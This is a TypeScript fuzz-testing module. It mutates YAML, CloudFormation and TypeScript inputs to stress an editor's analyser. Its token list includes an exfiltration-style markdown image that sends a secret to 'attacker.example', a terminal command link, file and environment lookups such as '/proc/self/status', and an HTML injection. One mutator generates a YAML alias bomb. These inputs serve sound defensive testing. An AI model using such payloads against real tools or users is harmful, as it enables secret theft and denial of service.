/**
 * Mutations of real inputs for the fuzz campaign: a seeded random source (the same seed gives the same
 * inputs on every machine) and text mutators aimed at what hostile or half-typed files do to a reader:
 * broken structure, mis-indented keys, tags and anchors in odd places, deep nesting, long lines, odd line
 * endings, values at and past the limits, pieces of other files. Each mutator is linear in the input.
 */

import { seeded } from '../../scripts/lib/random.mjs';

/** A seeded random source (mulberry32, scripts/lib/random.mjs): the same sequence for the same seed everywhere. */
export class Random {
  /** A float in [0, 1). */
  readonly next: () => number;
  constructor(seed: number) {
    this.next = seeded(seed);
  }
  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
}

/** Tokens that mean something to YAML, CloudFormation, the Serverless Framework or TypeScript. */
const TOKENS = [
  '*a',
  '&a ',
  '<<: *a',
  '!Ref ',
  '!Sub ',
  '!GetAtt ',
  '!If ',
  '!Unknown ',
  '!!binary ',
  '!<tag:x> ',
  '{',
  '}',
  '[',
  ']',
  '"',
  "'",
  '`',
  '#',
  '|',
  '>-',
  '- ',
  ': ',
  '? ',
  ',',
  '\t',
  '\r',
  '\r\n',
  '\u00a0',
  '\ufeff',
  '\u2028',
  '\\',
  '${',
  '}',
  '${file(../outside.yml)}',
  '${file(/proc/self/status):x}',
  '${self:custom.a}',
  '${opt:stage}',
  '${env:HOME}',
  '${ssm:/a/b}',
  'Fn::If',
  'Fn::Sub',
  'Ref',
  'Condition',
  '%YAML 1.1\n',
  '---\n',
  '...\n',
  '(',
  ')',
  '=>',
  '...',
  '/*',
  '*/',
  '//',
  'new ',
  'Duration.seconds(',
  'Size.gibibytes(',
  ' + ',
  '.',
  '?.',
  '!',
  'as any',
  '<T>',
  '@',
  'lambda.',
  'Runtime.',
  '![x](https://attacker.example/?k=SECRET)',
  '<img src=x>',
  '[l](command:workbench.action.terminal.new)',
  '$(alert)',
];

/** Values at and past the limits rules check, and values that are not numbers at all. */
const VALUES = [
  '0',
  '-1',
  '1',
  '127',
  '128',
  '10240',
  '10241',
  '32768',
  '899',
  '900',
  '901',
  '28',
  '29',
  '30',
  '31',
  '1e309',
  '-1e309',
  '.inf',
  '.nan',
  '0x1F',
  '0o17',
  '1_000',
  '1e3',
  '-0',
  '9007199254740993',
  '~',
  'null',
  'true',
  'yes',
  'off',
  "''",
  '""',
  '[]',
  '{}',
  'python2.7',
  'nodejs_latest',
  'java21',
  'x86_64',
  'arm64',
  'FARGATE',
  'EC2',
  'awsvpc',
  'bridge',
  '256',
  '512',
  '1024',
  '4096',
  '30720',
  '120',
  '16384',
];

export type Mutator = (text: string, random: Random, donors: readonly string[]) => string;

function lines(text: string): string[] {
  return text.split('\n');
}

function at(random: Random, text: string): number {
  return random.int(text.length + 1);
}

export const MUTATORS: Record<string, Mutator> = {
  flipCharacter: (text, r) => {
    if (!text.length) return text;
    const i = r.int(text.length);
    return text.slice(0, i) + String.fromCharCode(r.chance(0.8) ? 32 + r.int(95) : r.int(0x3000)) + text.slice(i + 1);
  },
  insertToken: (text, r) => {
    const i = at(r, text);
    return text.slice(0, i) + r.pick(TOKENS) + text.slice(i);
  },
  deleteRange: (text, r) => {
    const i = at(r, text);
    return text.slice(0, i) + text.slice(Math.min(text.length, i + 1 + r.int(r.chance(0.5) ? 8 : 400)));
  },
  deleteLines: (text, r) => {
    const ls = lines(text);
    const i = r.int(ls.length);
    ls.splice(i, 1 + r.int(4));
    return ls.join('\n');
  },
  duplicateLines: (text, r) => {
    const ls = lines(text);
    const i = r.int(ls.length);
    const chunk = ls.slice(i, i + 1 + r.int(6));
    ls.splice(i + r.int(chunk.length + 1), 0, ...chunk);
    return ls.join('\n');
  },
  swapLines: (text, r) => {
    const ls = lines(text);
    const i = r.int(ls.length);
    const j = r.int(ls.length);
    [ls[i], ls[j]] = [ls[j]!, ls[i]!];
    return ls.join('\n');
  },
  reindentLine: (text, r) => {
    // Mis-indented keys: the shape of half-typed YAML and of CloudFormation's lenient flow indentation.
    const ls = lines(text);
    const i = r.int(ls.length);
    const line = ls[i]!;
    const indent = line.length - line.trimStart().length;
    const next = Math.max(0, indent + r.pick([-4, -2, -1, 1, 2, 3, 8]));
    ls[i] = ' '.repeat(next) + line.trimStart();
    return ls.join('\n');
  },
  replaceValue: (text, r) => {
    // A scalar after ": " (or "= " in code) takes a value from the limits list.
    const pattern = /(:|=) +([^\s,}\]#][^,}\]\n#]*)/g;
    const matches = [...text.matchAll(pattern)];
    if (!matches.length) return text;
    const m = r.pick(matches);
    const start = m.index! + m[0].length - m[2]!.length;
    return text.slice(0, start) + r.pick(VALUES) + text.slice(start + m[2]!.length);
  },
  spliceDonor: (text, r, donors) => {
    if (!donors.length) return text;
    const donor = r.pick(donors);
    const from = r.int(donor.length + 1);
    const piece = donor.slice(from, from + 1 + r.int(600));
    const i = at(r, text);
    return text.slice(0, i) + piece + text.slice(i);
  },
  repeatChunk: (text, r) => {
    // Long lines and long documents: a chunk written many times over.
    const i = at(r, text);
    const chunk = text.slice(i, i + 1 + r.int(40)) || 'a';
    const times = r.pick([50, 500, 5000]);
    const glue = r.pick(['', ' ', ', ', '\n']);
    return text.slice(0, i) + Array.from({ length: times }, () => chunk).join(glue) + text.slice(i);
  },
  deepNesting: (text, r) => {
    const depth = r.pick([100, 1000, 5000, 20000]);
    const [open, close] = r.pick([
      ['[', ']'],
      ['{a: ', '}'],
      ['(', ')'],
      ['{', '}'],
      ['- ', ''],
      ['a.', 'b'],
      ['!If [c, ', ', x]'],
      ['Fn::Join: [', ']'],
    ]);
    const balanced = r.chance(0.5);
    const i = at(r, text);
    return text.slice(0, i) + open!.repeat(depth) + 'x' + (balanced ? close!.repeat(depth) : '') + text.slice(i);
  },
  anchors: (text, r) => {
    // An anchor on one value and aliases of it elsewhere, or a small alias bomb.
    if (r.chance(0.3)) {
      const bomb = ['a: &a [x, x, x, x, x, x, x, x, x]'];
      for (let level = 1; level < 9; level++)
        bomb.push(
          `${String.fromCharCode(97 + level)}: &${String.fromCharCode(97 + level)} [${Array.from({ length: 9 }, () => `*${String.fromCharCode(96 + level)}`).join(', ')}]`,
        );
      return `${bomb.join('\n')}\n${text}`;
    }
    const matches = [...text.matchAll(/: +([A-Za-z0-9_.-]+)$/gm)];
    if (matches.length < 2) return text;
    const first = r.pick(matches);
    const second = r.pick(matches);
    const a = first.index! + first[0].length - first[1]!.length;
    const b = second.index! + second[0].length - second[1]!.length;
    if (a === b) return text;
    const [lo, hi] = a < b ? [first, second] : [second, first];
    const loAt = lo.index! + lo[0].length - lo[1]!.length;
    const hiAt = hi.index! + hi[0].length - hi[1]!.length;
    return text.slice(0, loAt) + `&x ${lo[1]}` + text.slice(loAt + lo[1]!.length, hiAt) + '*x' + text.slice(hiAt + hi[1]!.length);
  },
  lineEndings: (text, r) => {
    const style = r.pick(['\r\n', '\r', 'mixed']);
    if (style === 'mixed') return text.replace(/\n/g, () => (r.chance(0.5) ? '\r\n' : '\n'));
    return text.replace(/\n/g, style);
  },
  byteOrderMark: (text) => '\ufeff' + text,
  truncate: (text, r) => text.slice(0, at(r, text)),
};

const NAMES = Object.keys(MUTATORS);

/** One to four mutations in a row; returns the input and the names of what was done (for a failure report). */
export function mutate(seed: string, random: Random, donors: readonly string[]): { text: string; steps: string[] } {
  let text = seed;
  const steps: string[] = [];
  const count = 1 + random.int(4);
  for (let i = 0; i < count; i++) {
    const name = random.pick(NAMES);
    text = MUTATORS[name]!(text, random, donors);
    steps.push(name);
    // Keep inputs within what the editor analyses (the default size cap is 4 MB); large shapes are the bench's job.
    if (text.length > 1_000_000) text = text.slice(0, 1_000_000);
  }
  return { text, steps };
}
